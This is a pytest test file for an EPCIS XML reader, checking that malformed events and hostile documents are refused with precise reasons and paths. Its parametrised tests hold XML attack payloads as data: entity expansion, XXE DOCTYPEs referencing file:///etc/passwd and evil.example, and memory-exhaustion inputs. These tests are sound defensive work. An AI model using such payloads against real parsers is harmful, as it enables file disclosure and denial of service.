"""EPCIS XML that is refused: what is wrong, in which event and where, and hostile documents."""

import tracemalloc

import pytest

from closient.apps.epcis.rules import xml_reading
from closient.apps.epcis.rules.xml_names import EventRefused, TooManyEvents
from tests.apps.epcis.xml_examples import document, object_event, only, refused


@pytest.mark.parametrize(
    ("inside", "reason", "path"),
    [
        ("<color>red</color>", "color is not known here", "/color"),
        ("<bizStep>a</bizStep><bizStep>b</bizStep>", "bizStep stands twice", "/bizStep[2]"),
        ("<bizStep><x/></bizStep>", "bizStep holds elements where a text belongs", "/bizStep"),
        (
            "<extension><quantityList><quantityElement><epcClass>u:c</epcClass></quantityElement>"
            "<quantityElement><quantity>1,5</quantity></quantityElement></quantityList></extension>",
            "quantity is not a number",
            "/extension/quantityList/quantityElement[2]/quantity",
        ),
        (
            "<quantityList><quantityElement><quantity>INF</quantity></quantityElement></quantityList>",
            "quantity is not a number",
            "/quantityList/quantityElement/quantity",
        ),
        ("<readPoint>urn:x:1</readPoint>", "readPoint has a text where only elements belong", "/readPoint"),
        (
            "<sourceList><source kind='x'>urn:x:1</source></sourceList>",
            "source may have no attribute but type",
            "/sourceList/source",
        ),
        (
            "<sensorElementList><sensorElement><sensorReport type='T' value='hot'/></sensorElement>"
            "</sensorElementList>",
            "sensorReport has no number in its attribute value",
            "/sensorElementList/sensorElement/sensorReport",
        ),
        (
            "<ext:a>text<ext:b/>more</ext:a>",
            "ext:a mixes text and elements",
            "/ext:a",
        ),
        ("<ilmd><lot>1</lot></ilmd>", "lot is not known here", "/ilmd/lot"),
        (
            "<persistentDisposition><put>x</put></persistentDisposition>",
            "put is not known here",
            "/persistentDisposition/put",
        ),
    ],
)
def test_a_refusal_names_the_event_and_the_place(inside: str, reason: str, path: str) -> None:
    error = refused(document(object_event("<ext:a>1</ext:a>") + object_event(inside)))
    assert isinstance(error, EventRefused)
    assert (error.reason, error.event_index) == (reason, 1)
    assert [event["ext:a"] for event in error.events] == ["1"]
    assert error.context[1] == {"ext": "https://ext.example/"}
    assert error.path == f"/EPCISDocument/EPCISBody/EventList/*[2]{path}"


def test_a_list_takes_only_its_own_entries() -> None:
    body = document("<ObjectEvent><epcList><epc>a</epc><epc/></epcList></ObjectEvent>")
    assert refused(body).path == "/EPCISDocument/EPCISBody/EventList/*[1]/epcList/epc[2]"
    body = document("<ObjectEvent><epcList><id>a</id></epcList></ObjectEvent>")
    assert refused(body).reason == "id stands where only epc may"


def test_what_is_no_epcis_document_is_refused() -> None:
    assert "not an EPCISDocument" in refused(b"<EPCISDocument/>").reason
    assert "not an EPCISDocument" in refused(b"<html xmlns='http://www.w3.org/1999/xhtml'/>").reason
    body = document("")
    assert refused(body.replace(b'"2.0"', b'"1.2"')).path == "/EPCISDocument/@schemaVersion"
    assert refused(body.replace(b"creationDate", b"created")).reason == "creationDate is missing"
    assert refused(body.replace(b"EPCISBody", b"Body")).reason == "EPCISBody is missing"
    assert refused(document("<Note/>")).reason == "Note is no event"
    twice = body.replace(b"</EventList>", b"</EventList><EventList/>")
    assert refused(twice).reason == "there is a second EventList"


def test_broken_xml_is_refused_with_its_line_and_the_event() -> None:
    body = document(object_event("") + "\n<ObjectEvent><eventTime></ObjectEvent>")
    error = refused(body)
    assert "mismatched tag" in error.reason
    assert "(line 6)" in error.reason
    assert error.event_index == 1
    assert refused(b"").event_index is None
    assert refused(body[:200]).event_index is None


@pytest.mark.parametrize(
    "declaration",
    [
        "<!DOCTYPE e [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]>",
        '<!DOCTYPE e SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE e [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
        "<!DOCTYPE e>",
    ],
)
@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16"])
def test_a_doctype_is_refused_in_any_encoding(declaration: str, encoding: str) -> None:
    text = document(object_event("<ext:a>&#169;</ext:a>")).decode().replace("UTF-8", encoding)
    assert xml_reading.read(text.encode(encoding)).events[0]["ext:a"] == "©"
    hostile = text.replace("?>", f"?>{declaration}", 1).encode(encoding)
    assert refused(hostile).reason == "a DOCTYPE is not taken"


def test_an_entity_that_nobody_declared_is_refused() -> None:
    assert "undefined entity" in refused(document(object_event("<ext:a>&xxe;</ext:a>"))).reason


def test_a_doctype_in_a_text_is_only_a_text() -> None:
    assert only("<ext:a><![CDATA[<!DOCTYPE a>]]></ext:a>") == {"ext:a": "<!DOCTYPE a>"}


def test_encodings_of_one_byte_are_read_and_strange_ones_refused() -> None:
    text = document(object_event("<ext:a>crème</ext:a>")).decode()
    latin = text.replace("UTF-8", "ISO-8859-1").encode("latin-1")
    assert xml_reading.read(latin).events[0]["ext:a"] == "crème"
    assert "encoding" in refused(text.replace("UTF-8", "UTF-7").encode("utf-7")).reason
    assert "encoding" in refused(text.replace("UTF-8", "no-such-thing").encode()).reason
    assert "not well-formed" in refused(text.encode("latin-1")).reason


@pytest.mark.parametrize(
    ("events", "reason"),
    [
        ("<ObjectEvent>" + "<ext:a>" * 100_000, "elements are nested more than 64 deep"),
        ("<ObjectEvent>" + "<ext:a/>" * 300_000, "more than 250000 elements in one place"),
        ("<!--" + "x" * 2_000_000 + "-->", "a tag or comment is too long"),
        ("<ObjectEvent a='" + "x" * 2_000_000 + "'/>", "a tag or comment is too long"),
        (
            "".join(f"<ObjectEvent xmlns:n{number}='u:{number}'/>" for number in range(1_100)),
            "more than 1000 namespaces",
        ),
        (
            "".join(f"<ObjectEvent><ext:n{number}/></ObjectEvent>" for number in range(11_000)),
            "more than 10000 different names of elements and attributes",
        ),
    ],
    ids=["deep", "wide", "comment", "attribute", "namespaces", "names"],
)
def test_hostile_documents_are_refused_in_little_memory(events: str, reason: str) -> None:
    body = document(events)
    tracemalloc.start()
    try:
        assert refused(body).reason == reason
        assert tracemalloc.get_traced_memory()[1] < 48_000_000
    finally:
        tracemalloc.stop()


def test_a_list_of_100_000_epcs_is_read() -> None:
    epcs = "".join(
        f"<epc>https://id.gs1.org/01/09506000134352/21/{number}</epc>" for number in range(100_000)
    )
    body = document(f"<ObjectEvent><epcList>{epcs}</epcList></ObjectEvent>")
    (event,) = xml_reading.read(body).events
    assert len(event["epcList"]) == 100_000
    assert event["epcList"][-1] == "https://id.gs1.org/01/09506000134352/21/99999"


def test_more_events_than_wanted_are_a_refusal_of_their_own() -> None:
    body = document(object_event("") * 3)
    assert len(xml_reading.read(body, event_limit=3).events) == 3
    with pytest.raises(TooManyEvents) as caught:
        xml_reading.read(body, event_limit=2)
    assert caught.value.event_index == 2
